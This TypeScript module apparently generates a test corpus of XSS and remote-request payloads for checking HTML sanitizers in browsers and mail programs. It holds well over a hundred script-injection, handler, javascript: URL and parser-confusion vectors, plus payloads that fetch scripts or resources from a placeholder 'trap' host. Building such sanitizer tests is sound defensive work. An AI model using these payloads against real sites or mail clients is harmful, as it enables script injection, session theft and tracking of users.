/** What a payload does when nothing stops it. */
export interface Aim {
  /** JavaScript without quotes, blanks or angle brackets, which tells that it ran. */
  script: string;
  /** Host and port of a server that nobody may connect to. */
  trap: string;
}

export interface Payload {
  name: string;
  html: string;
}

/** Vectors as they are published for browsers and for mail programs, around an aim. */
function vectors({ script: js, trap }: Aim): [name: string, html: string][] {
  const to = `http://${trap}/x`;
  const loose = `//${trap}/x`;
  const every = (list: string, make: (name: string) => string): [string, string][] =>
    list.split(' ').map((name) => [`${make.name} ${name}`, make(name)]);
  return [
    // Scripts and what runs as one.
    ['script', `<script>${js}</script>`],
    ['script from afar', `<script src=${to}></script>`],
    ['script without an end', `<script>${js}//`],
    ['script with a slash', `<script/x>${js}</script/x>`],
    ['script in script', `<scr<script>ipt>${js}</scr</script>ipt>`],
    ['module', `<script type=module>import(\`${to}\`)</script>`],
    ['svg script', `<svg><script>${js}</script></svg>`],
    ['svg script href', `<svg><script href=data:,${js} /></svg>`],
    ['math script', `<math><script>${js}</script></math>`],
    ['template', `<template><script>${js}</script></template>`],
    // Handlers.
    ...every('load error', function image(on) {
      return `<img src=x on${on}=${js}>`;
    }),
    ...every(
      'toggle pageshow focus focusin animationstart transitionend begin scroll wheel copy mouseover pointerenter beforetoggle contentvisibilityautostatechange',
      function handler(on) {
        return `<details open tabindex=0 autofocus style=animation:x on${on}=${js}>x</details>`;
      },
    ),
    ...every(
      'svg body video audio iframe object embed input marquee style link frameset',
      function onload(tag) {
        return `<${tag} onload=${js} onerror=${js} onstart=${js} onloadstart=${js} src=x autofocus onfocus=${js}>`;
      },
    ),
    ['handler after a slash', `<img/src=x/onerror=${js}>`],
    ['handler after a line', `<img src=x\nonerror\n=\n${js}\n>`],
    ['handler after a quote', `<img src="x"onerror=${js}>`],
    ['handler in a backtick', `<img src=\`x\`onerror=${js}>`],
    ['handler with a null', `<img src=x o\0nerror=${js}>`],
    ['handler behind an entity', `<img src=x onerror=&#x63;onsole.log(${js})>`],
    ['source without one', `<video><source onerror=${js}></video>`],
    ['picture', `<picture><source srcset=x onerror=${js}><img onerror=${js} src=x></picture>`],
    ['image element', `<image src=x onerror=${js}>`],
    // Addresses that run.
    ...every(
      'href src action formaction xlink:href data background poster lowsrc dynsrc',
      function attribute(name) {
        return `<a ${name}=javascript:${js}>x</a><iframe ${name}=javascript:${js}></iframe><button ${name}=javascript:${js}>x</button>`;
      },
    ),
    [
      'javascript with a tab',
      `<a href="java\tscript:${js}">x</a><iframe src="java\tscript:${js}">`,
    ],
    [
      'javascript with a line',
      `<a href="java\nscript:${js}">x</a><iframe src="java\r\nscript:${js}">`,
    ],
    ['javascript behind blanks', `<a href=" &#1; javascript:${js}">x</a>`],
    ['javascript in entities', `<a href="&#106;avascript&colon;${js}">x</a>`],
    ['javascript in hex', `<a href="&#x6A&#x61&#x76&#x61script:${js}">x</a>`],
    ['vbscript', `<a href=vbscript:${js}>x</a>`],
    ['data page', `<a href="data:text/html,<script>${js}</script>">x</a>`],
    ['data page in a frame', `<iframe src="data:text/html,<script>${js}</script>"></iframe>`],
    [
      'data page in base64',
      `<object data=data:text/html;base64,${btoa(`<script>${js}</script>`)}>`,
    ],
    [
      'svg picture',
      `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>">`,
    ],
    ['srcdoc', `<iframe srcdoc="<script>${js}</script>"></iframe>`],
    ['srcdoc in entities', `<iframe srcdoc="&lt;img src=x onerror=${js}&gt;"></iframe>`],
    ['svg link', `<svg><a xlink:href=javascript:${js}><rect width=99 height=99 /></a></svg>`],
    [
      'svg animate',
      `<svg><a><animate attributeName=href values=javascript:${js} /><text>x</text></a></svg>`,
    ],
    ['svg set', `<svg><set attributeName=onmouseover to=${js} onbegin=${js} /></svg>`],
    [
      'svg use',
      `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${js}</script></svg>#x"/></svg>`,
    ],
    [
      'svg foreign',
      `<svg><foreignObject><iframe srcdoc="<script>${js}</script>"/></foreignObject></svg>`,
    ],
    ['math link', `<math href=javascript:${js}><mtext>x</mtext></math>`],
    ['refresh to script', `<meta http-equiv=refresh content="0;url=javascript:${js}">`],
    ['base to script', `<base href=javascript:${js}//><a href=x>x</a>`],
    // What one parser reads as text and another as markup.
    ['noscript', `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`],
    ['noembed', `<noembed><img title="</noembed><img src=x onerror=${js}>"></noembed>`],
    ['xmp', `<xmp><p title="</xmp><img src=x onerror=${js}>"></xmp>`],
    ['title', `<title><a title="</title><img src=x onerror=${js}>"></title>`],
    ['textarea', `<textarea><p id="</textarea><img src=x onerror=${js}>"></textarea>`],
    ['style end', `<style><a title="</style><img src=x onerror=${js}>"></style>`],
    [
      'comment end',
      `<!--><img src=x onerror=${js}>--><!--!><img src=x onerror=${js}><!-- --!><img src=x onerror=${js}>`,
    ],
    ['conditional comment', `<!--[if gte IE 4]><script>${js}</script><![endif]-->`],
    ['cdata', `<svg><![CDATA[><img src=x onerror=${js}>]]></svg>`],
    ['processing instruction', `<?xml version="1.0"?><?php <img src=x onerror=${js}> ?>`],
    [
      'math and style',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
    ],
    [
      'form in form',
      `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
    ],
    ['svg and style', `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`],
    ['select', `<select><option><style></option></select><img src=x onerror=${js}></style>`],
    [
      'table out',
      `<table><td><svg><desc><table><img src=x onerror=${js}></table></desc></svg></td></table>`,
    ],
    ['plaintext', `<plaintext><img src=x onerror=${js}>`],
    ['open attribute', `<p title="x><img src=x onerror=${js}>`],
    ['open quote', `<img alt="x" title='"><img src=x onerror=${js}>'>`],
    ['grave', `<div title="\`\`onmouseover=${js}">x</div>`],
    [
      'custom element',
      `<x-x is=y onclick=${js} style=animation-name:x onanimationstart=${js}>x</x-x>`,
    ],
    [
      'annotation',
      `<math><annotation-xml encoding=text/html><img src=x onerror=${js}></annotation-xml></math>`,
    ],
    ['entity twice', `&lt;img src=x onerror=${js}&gt;&amp;lt;script&amp;gt;${js}`],
    ['less than unicode', `\uff1cscript\uff1e${js}\uff1c/script\uff1e\u02bascript\u02ba`],
    // Handles of the page around.
    [
      'clobbering',
      `<form id=body><input name=attributes><img name=cookie src=x><a id=defaultView href=x>`,
    ],
    [
      'overlay',
      `<div style="position:fixed;inset:0;z-index:999999;background:#fff"><a href=${to}>x</a></div>`,
    ],
    // Requests without a script.
    ...every(
      'img input video audio iframe embed source track frame bgsound layer ilayer',
      function fetches(tag) {
        return `<${tag} src=${to} type=image autoplay preload=auto><${tag} src="${loose}">`;
      },
    ),
    ['srcset', `<img srcset="${to} 1x, ${to}2 2x" sizes=100vw>`],
    ['srcset of a source', `<picture><source srcset=${to}><img alt=x></picture>`],
    ['lazy', `<img loading=eager fetchpriority=high src="http:${loose}">`],
    ['slashes', `<img src="http:/\\${trap}/x"><img src="\\\\${trap}\\x"><img src="/\t/${trap}/x">`],
    ['object', `<object data=${to}><param name=src value=${to}></object>`],
    ['poster', `<video poster=${to} controls></video>`],
    [
      'background',
      `<body background=${to}><table background=${to}><td background="${loose}">x</table>`,
    ],
    [
      'style url',
      `<p style="background:url(${to})">x</p><p style="list-style:url('${loose}')">x</p>`,
    ],
    [
      'style escaped',
      `<p style="background:\\75rl(${to})">x</p><p style="background:u\\72l(${to})">x</p>`,
    ],
    ['style comment', `<p style="background:ur/**/l(${to});content:url(${to})">x</p>`],
    [
      'style image-set',
      `<p style="background-image:image-set('${to}' 1x);cursor:url(${to}),auto">x</p>`,
    ],
    [
      'style cross-fade',
      `<p style="background:-webkit-cross-fade(url(${to}),url(${to}),50%);mask:url(${to});filter:url(${to}#x)">x</p>`,
    ],
    [
      'style behind color',
      `<p style="color:red;background-color:red url(${to});border-image:url(${to})">x</p>`,
    ],
    ['style variable', `<p style="--x:url(${to});background:var(--x)">x</p>`],
    [
      'style element',
      `<style>body{background:url(${to})}@import '${to}';@font-face{font-family:x;src:url(${to})}p{font-family:x}</style><p>x</p>`,
    ],
    ['style import', `<style>@import url("${loose}");</style>`],
    [
      'style expression',
      `<p style="width:expression(${js});behavior:url(${to});-moz-binding:url(${to})">x</p>`,
    ],
    ...every(
      'stylesheet preload prefetch preconnect dns-prefetch modulepreload icon manifest prerender import search',
      function link(rel) {
        return `<link rel=${rel} href=${to} as=image><link rel="${rel}" href="${loose}">`;
      },
    ),
    ['refresh', `<meta http-equiv=refresh content="0;url=${to}">`],
    [
      'policy report',
      `<meta http-equiv=content-security-policy content="default-src 'none'; report-uri ${to}"><img src=x>`,
    ],
    ['link header', `<meta http-equiv=link content="<${to}>; rel=preload; as=image">`],
    ['base', `<base href=${to}/><img src=a><link rel=stylesheet href=a>`],
    [
      'form',
      `<form action=${to} method=post><input name=a value=b autofocus onfocus=submit()></form>`,
    ],
    ['isindex', `<isindex action=${to} type=image src=${to}>`],
    ['ping', `<a href=https://example.test ping=${to}>x</a>`],
    [
      'attribution',
      `<img attributionsrc=${to} src=data:,x><a attributionsrc=${to} href=https://example.test>x</a>`,
    ],
    [
      'svg image',
      `<svg><image href=${to} xlink:href=${to} /><use href=${to}#x /><feImage href=${to} /></svg>`,
    ],
    [
      'svg style',
      `<svg><style>@import url(${to});</style><rect fill=url(${to}#x) width=9 height=9 /></svg>`,
    ],
    ['math source', `<math><mglyph src=${to} /><none xlink:href=${to} /></math>`],
    ['portal', `<portal src=${to}></portal><fencedframe src=${to}></fencedframe>`],
    ['frameset', `<frameset><frame src=${to}></frameset>`],
    ['vml', `<v:background fill=t><v:fill src=${to} /></v:background><v:imagedata src="${to}"/>`],
    ['xml', `<xml src=${to} id=x></xml><html manifest=${to}><head profile=${to}>`],
    [
      'cite',
      `<blockquote cite=${to}>x</blockquote><q cite="${loose}">x</q><img longdesc=${to} usemap=${to} src=data:,x>`,
    ],
    [
      'content id',
      `<img src="cid:x onerror=${js}"><img src='cid:"><img src=${to}>'><img src="cid:../../x">`,
    ],
    [
      'template root',
      `<div><template shadowrootmode=open><img src=${to}><style>@import "${to}"</style></template></div>`,
    ],
    [
      'dialog',
      `<dialog open><img src=${to} onerror=${js}></dialog><div popover onbeforetoggle=${js}>x</div>`,
    ],
  ];
}

/** What stands around a vector in mail: quoted text, layout tables, what Outlook and Gmail add. */
const surroundings: [name: string, around: (html: string) => string][] = [
  ['alone', (html) => html],
  [
    'in a page',
    (html) => `<html><head><title>x</title></head><body><p>Hello</p>${html}</body></html>`,
  ],
  [
    'in the head',
    (html) => `<!doctype html><html><head>${html}</head><body><p>Hello</p></body></html>`,
  ],
  [
    'in a layout table',
    (html) =>
      `<table width=600><tbody><tr><td style="padding:4px">${html}</td></tr></tbody></table>`,
  ],
  ['loose in a table', (html) => `<table>${html}<tr>${html}<td>x</table>`],
  [
    'quoted',
    (html) =>
      `<div class=gmail_quote><blockquote style="margin:0 0 0 1ex">${html}</blockquote></div>`,
  ],
  [
    'from Word',
    (html) =>
      `<div class=WordSection1><p class=MsoNormal><o:p>${html}</o:p></p><!--[if mso]>${html}<![endif]--></div>`,
  ],
  ['unclosed', (html) => `<b><i><a href="https://example.test/"><font color=red>${html}`],
  ['in a list', (html) => `<ul><li>${html}<li>x</ul></ol></div></td>`],
  ['in svg', (html) => `<svg><desc>${html}</desc></svg>`],
  ['in math', (html) => `<math><mtext>${html}</mtext></math>`],
  ['behind a comment', (html) => `<!-- a > b -- --><!-->-->${html}<!--`],
];

/** Names of tags in capitals; scripts and addresses keep their case. */
function inCapitals(html: string): string {
  return html.replace(/<\/?[a-z][a-z:-]*/g, (tag) => tag.toUpperCase());
}

/** Every vector in every surrounding; each names itself, so that what gets through is known. */
export function hostilePayloads(trap: string, scriptOf: (index: number) => string): Payload[] {
  const payloads: Payload[] = [];
  const add = (vector: number, how: string, dress: (html: string) => string) => {
    const [name, html] = vectors({ script: scriptOf(payloads.length), trap })[vector]!;
    payloads.push({ name: `${name}, ${how}`, html: dress(html) });
  };
  const count = vectors({ script: '', trap }).length;
  for (let vector = 0; vector < count; vector++) {
    for (const [around, surround] of surroundings) add(vector, around, surround);
    add(vector, 'in capitals', inCapitals);
  }
  return payloads;
}
